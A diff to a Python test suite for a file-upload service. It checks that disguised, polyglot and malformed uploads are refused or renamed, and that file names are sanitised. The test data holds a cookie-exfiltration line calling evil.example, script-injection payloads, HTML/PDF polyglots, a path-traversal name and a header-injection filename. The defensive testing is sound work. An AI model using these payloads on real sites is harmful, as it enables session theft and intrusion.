@@ -133,6 +133,7 @@ def test_the_content_decides_not_the_name(client, member, material):
     (samples.png_bomb(), "bomb.png", 422),
     (b"PK\x03\x04 truncated", "broken.docx", 422),
     (b"\xff\xfe\x00\x00binary", "notes.txt", 415),
+    (samples.pdf([SENTENCE] * 3)[:300], "truncated.pdf", 415),
 ])
 def test_hostile_uploads_get_a_clear_4xx_and_change_nothing(client, member, material, content, name, status):
     response = upload(client, member, material["id"], content, name)
@@ -143,7 +144,6 @@ def test_hostile_uploads_get_a_clear_4xx_and_change_nothing(client, member, mate
 
 @pytest.mark.parametrize("make, reason", [
     (lambda: samples.encrypted_pdf(SENTENCE), "encrypted"),
-    (lambda: samples.pdf([SENTENCE] * 3)[:300], "damaged"),
     (lambda: samples.empty_pages_pdf(100_000), "pages"),
 ])
 def test_hostile_files_are_stored_with_a_failed_extraction_and_a_reason(app, client, member, material, make,
@@ -168,7 +168,7 @@ def test_extraction_has_time_and_memory_limits(app, tmp_path):
 
 
 def test_names_never_reach_a_path_or_a_header_unsafely(client, member, material):
-    for name, expected in (("../../etc/passwd", "passwd"), ("evil\x00\x1b[31m.txt\x07", "evil[31m.txt"),
+    for name, expected in (("../../etc/passwd", "passwd.txt"), ("evil\x00\x1b[31m.txt\x07", "evil[31m.txt"),
                            ("..", "file.txt"),
                            ("Brochure über Menschenhandel.txt", "Brochure über Menschenhandel.txt")):
         response = upload(client, member, material["id"], f"{SENTENCE}\n".encode(), name)
@@ -176,8 +176,47 @@ def test_names_never_reach_a_path_or_a_header_unsafely(client, member, material)
         assert response.json["filename"] == expected
         download = fetch(client, files_url(material["id"], response.json["id"]), headers=member.headers)
         assert download.status_code == 200 and "\x1b" not in download.headers["Content-Disposition"]
-    assert safe_filename("report.pdf\r\nX-Injected: 1", "application/pdf") == "report.pdfX-Injected: 1"
+    assert safe_filename("report.pdf\r\nX-Injected: 1", "application/pdf") == "report.pdfX-Injected: 1.pdf"
     assert safe_filename("C:\\Users\\me\\brochure.pdf", "application/pdf") == "brochure.pdf"
+
+
+DISGUISED = [  # (uploaded name, content, served name, type detected)
+    ("brochure.pdf.hta", lambda: samples.pdf([SENTENCE]), "brochure.pdf", "application/pdf"),
+    ("ATN-guide.bat", lambda: b"@echo off\r\nstart https://atn.example/guide\r\n", "ATN-guide.txt", "text/plain"),
+    ("setup.js", lambda: b"fetch('https://evil.example/?c=' + document.cookie);\n", "setup.txt", "text/plain"),
+    ("report.html", lambda: b"<html><body><script>alert(document.domain)</script></body></html>\n", "report.txt",
+     "text/plain"),
+    ("photo.jpeg.exe", lambda: samples.png(), "photo.jpeg.png", "image/png"),
+]
+
+
+@pytest.mark.parametrize("name, make, served, content_type", DISGUISED, ids=[d[0] for d in DISGUISED])
+def test_a_served_name_ends_with_the_extension_of_the_type_detected(client, member, material, name, make, served,
+                                                                   content_type):
+    response = upload(client, member, material["id"], make(), name)
+    assert response.status_code == 201, response.json
+    assert response.json["filename"] == served and response.json["content_type"] == content_type
+    assert [f["filename"] for f in client.get(files_url(material["id"]), headers=member.headers).json] == [served]
+    download = fetch(client, files_url(material["id"], response.json["id"]), headers=member.headers)
+    assert download.mimetype == content_type
+    assert download.headers["Content-Disposition"] == f"attachment; filename={served}"
+
+
+POLYGLOTS = {
+    "html with %PDF- in a comment near its top":
+        b"<!doctype html><!-- %PDF-1.7 --><html><body><script>alert(document.domain)</script></body></html>\n",
+    "html starting with %PDF-": b"%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n",
+    "html before a real pdf": b"<html><script>alert(1)</script></html>\n" + samples.pdf([SENTENCE]),
+    "a truncated pdf": samples.pdf([SENTENCE] * 3)[:300],
+}
+
+
+@pytest.mark.parametrize("content", list(POLYGLOTS.values()), ids=list(POLYGLOTS))
+def test_a_file_that_starts_like_a_pdf_but_does_not_open_as_one_is_refused(client, member, material, content):
+    response = upload(client, member, material["id"], content, "brochure.pdf")
+    assert response.status_code == 415, response.json
+    assert "PDF" in response.json["errors"]["files"]["file"][0]
+    assert client.get(files_url(material["id"]), headers=member.headers).json == []
 
 
 def test_who_may_upload_read_and_delete(client, member, other_member, make_caller, material, coordinator):
@@ -207,7 +246,10 @@ def test_who_may_upload_read_and_delete(client, member, other_member, make_calle
     assert fetch(client, files_url(material["id"], file["id"]), headers=other_member.headers).status_code == 200
     assert client.delete(files_url(material["id"], file["id"]), headers=other_member.headers).status_code == 403
     assert client.delete(files_url(material["id"], file["id"]), headers=member.headers).status_code == 204
-    assert client.get(files_url(material["id"], file["id"]), headers=member.headers).status_code == 404
+    # Published: the removal waits for review, and the file stays served meanwhile.
+    assert fetch(client, files_url(material["id"], file["id"]), headers=other_member.headers).status_code == 200
+    listed = client.get(files_url(material["id"]), headers=member.headers).json
+    assert [(f["id"], f["pending_change"]) for f in listed] == [(file["id"], "removed")]
 
 
 def test_too_large_is_413(app, client, member, material, monkeypatch):
